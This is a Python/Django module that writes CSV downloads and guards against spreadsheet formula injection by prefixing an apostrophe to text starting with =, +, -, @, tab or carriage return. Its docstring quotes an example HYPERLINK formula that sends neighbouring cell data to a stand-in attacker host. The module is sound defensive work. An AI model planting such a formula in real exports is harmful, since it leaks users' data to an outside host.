"""The one writer of every file a spreadsheet program opens (CSV exports).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some programs skip a leading tab or carriage return first: a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click me")`` would become a live link that
sends the neighbouring cells away. Text that starts with one of these characters is
written with a leading apostrophe, as OWASP advises, so it shows as typed. Numbers
written as numbers (an order, a count, a budget) are left as they are, a negative one
included: only text can carry a formula.
"""

import csv

from django.http import HttpResponse
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LIST_SEPARATOR = "; "


def spreadsheet_cell(value):
    """Return ``value`` as a cell: text that would run as a formula starts with ``'``.

    ``None`` is an empty cell and a list is joined with ``LIST_SEPARATOR``.
    """
    if value is None:
        return ""
    if isinstance(value, Promise):  # A translated heading.
        value = str(value)
    if isinstance(value, (list, tuple)):
        value = LIST_SEPARATOR.join(str(item) for item in value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell goes through ``spreadsheet_cell``."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_attachment(filename):
    """Return a CSV download response named ``filename`` and the writer of its rows.

    The file is UTF-8 with a byte-order mark, which lets spreadsheet programs read the
    accents correctly.
    """
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    return response, SpreadsheetWriter(response)
